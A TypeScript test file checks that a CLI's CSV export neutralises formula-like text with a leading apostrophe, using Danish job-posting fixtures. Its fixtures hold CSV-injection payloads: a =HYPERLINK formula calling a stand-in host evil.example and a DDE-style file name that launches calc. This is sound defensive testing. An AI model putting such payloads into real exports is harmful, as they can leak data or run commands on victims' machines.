// Finding 3 of issue 16: a title or a file name that begins like a formula
// must reach a spreadsheet as text. Read back with csv-parse, as an analyst's
// tool would; numbers (a negative daysToStart) stay numbers.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { parse as parseCsv } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neutralise } from "../../src/compare/formats/csv.js";
import { runCli } from "../helpers.js";
import { scratch } from "./hostile.js";

const FORMULA_TITLE = [
  'Job- og personprofil for =HYPERLINK("http://evil.example/?d=1";"Direktør")',
  "",
  "Viborg Kommune søger en direktør.",
  "",
  "Jobprofil",
  "",
  "Du skal lede staben.",
  "",
  "Personprofil",
  "",
  "Du er erfaren.",
  "",
  "Ansættelsesproces",
  "",
  "Ansøgningsfristen er den 12. august 2026.",
  "",
  // before the deadline: daysToStart is negative, and must stay a number
  "Forventet tiltrædelse den 1. juli 2026.",
  "",
].join("\n");

let tmp: ReturnType<typeof scratch>;
beforeAll(() => {
  tmp = scratch("csv");
  writeFileSync(join(tmp.dir, "titel.txt"), FORMULA_TITLE);
  writeFileSync(join(tmp.dir, "=cmd|' calc'!A0.txt"), FORMULA_TITLE.replace("=HYPERLINK", "@SUM"));
  writeFileSync(join(tmp.dir, "+plus.txt"), FORMULA_TITLE.replace("=HYPERLINK", "+2+3"));
  writeFileSync(join(tmp.dir, "-minus.txt"), FORMULA_TITLE);
});
afterAll(() => tmp.remove());

const FIELDS = "file,title,daysToStart,sections";
type Row = Record<string, string>;

function rowsOf(stdout: string, delimiter: string): Row[] {
  return parseCsv(stdout, { columns: true, delimiter, bom: true }) as Row[];
}

describe("compare --format csv with formula-like text", () => {
  for (const [label, extra, delimiter] of [
    ["csv", [], ","],
    ["csv --excel", ["--excel"], ";"],
  ] as const) {
    it(`${label}: every text cell that begins = + - @ gets a leading apostrophe`, () => {
      const r = runCli(["compare", tmp.dir, "--format", "csv", ...extra, "--fields", FIELDS, "-q"], undefined);
      expect(r.code).toBe(0);
      const rows = rowsOf(r.stdout, delimiter);
      expect(rows).toHaveLength(4);
      const byName = Object.fromEntries(rows.map((x) => [x.file.replace(/^.*[\\/]/u, ""), x]));
      // the file cell is the path as given, which here begins with the temp folder: only the names are checked
      // the title as the header reads it; what matters is the apostrophe before the "="
      expect(byName["titel.txt"].title).toMatch(/^'=HYPERLINK\("http:\/\/evil\.example\/\?d=1";"Direktør/u);
      expect(byName["=cmd|' calc'!A0.txt"].title).toMatch(/^'@SUM\("http/u);
      expect(byName["+plus.txt"].title).toMatch(/^'\+2\+3\("http/u);
      for (const row of rows) {
        for (const [field, value] of Object.entries(row))
          if (field !== "daysToStart") expect(value).not.toMatch(/^[=+\-@\t\r]/u);
        expect(row.daysToStart).toBe("-42");
      }
    });
  }

  it("names a file that begins like a formula as text", () => {
    const r = runCli(["compare", "=cmd|' calc'!A0.txt", ".", "--format", "csv", "--fields", "file", "-q"], undefined, tmp.dir);
    expect(r.code).toBe(0);
    expect(rowsOf(r.stdout, ",").map((x) => x.file)).toEqual(["'=cmd|' calc'!A0.txt", "'-minus.txt", "'+plus.txt", "titel.txt"]);
  });
});

describe("neutralise", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+45 12345678", "'+45 12345678"],
    ["-PA-", "'-PA-"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["Chef for Økonomi", "Chef for Økonomi"],
    ["a=1", "a=1"],
  ])("text %j → %j", (input, expected) => {
    expect(neutralise(input, input)).toBe(expected);
  });

  it("leaves numbers and lists' later items alone", () => {
    expect(neutralise(-42, "-42")).toBe("-42");
    expect(neutralise(-0.5, "-0,5")).toBe("-0,5");
    expect(neutralise(["-a", "b"], "-a; b")).toBe("'-a; b");
  });
});
